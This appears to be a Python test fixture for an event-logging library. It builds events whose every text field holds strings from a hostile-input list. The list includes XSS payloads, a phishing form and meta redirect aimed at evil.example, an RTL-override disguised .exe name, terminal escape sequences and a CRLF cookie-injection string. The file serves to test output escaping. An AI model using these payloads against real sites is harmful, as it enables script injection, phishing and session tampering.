"""Texts that would run, break out or hide, were they not escaped; events full of them."""

import json

from whodid.event import (
    Change,
    Content,
    Context,
    Envelope,
    Event,
    Redaction,
    What,
    When,
    Where,
    Who,
)

NOW_US = 1_795_350_000_000_000  # 2026-11-22T12:20:00Z, a Sunday
CANARY = "document.title='OWNED'"
HOSTILE = [
    f"<script>{CANARY}</script>",
    f'"><img src=x onerror="{CANARY}">',
    f"'><svg/onload={CANARY}>",
    f"javascript:{CANARY}",
    f"</title></pre></table><script>{CANARY}</script>",
    f"--><script>{CANARY}</script><!--",
    f"{{{{ 7*7 }}}}{{% include 'base.html' %}}<iframe srcdoc='<script>{CANARY}</script>'></iframe>",
    f'" onmouseover="{CANARY}" autofocus onfocus="{CANARY}" x="',
    "<form action=https://evil.example/><input name=csrf><button>Verify</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
    "invoice\u202egnp.exe",
    "\u2066isolate\u2069 \u200bzero\u00a0width\ufeff",
    "\x1b[2J\x1b]0;OWNED\x07\x1b[31mred",
    "a\0b\x01\x7f\x80\x9f",
    "\r\nSet-Cookie: whodid_session=evil\r\n",
    "x" * 8000,
    "ملف/سري " * 20,
    "\u0300" * 400 + "zalgo",
    "&lt;b&gt; &amp;#60;script&gt; &#x3c;script&#x3e;",
]


def hostile_event(number: int, text: str, quarantine: str | None = "") -> Event:
    """An event with the text in every field that holds text."""
    raw = json.dumps({text: text, "nested": [text, {text: 1}]}, ensure_ascii=False).encode()
    event_id = f"019ab000-0000-7000-8000-{number:012x}"
    many = (text, text)
    return Event(
        When(event_id, NOW_US, NOW_US - number, text),
        Who(text, text, "agent", text, text, many),
        What(text, "read", text, text, text, many, many, "denied", text, 5, 6),
        Where(text, text, 7, text, many),
        Context(text, text, text, text, text, text, text, 8),
        Content(text, (Change(text, text, text), Change(text)), text, many),
        raw,
        Envelope(
            text, text, 1, "client", text, many,
            text if quarantine == "" else quarantine, (Redaction(2, 8, text),), text,
        ),
    )  # fmt: skip
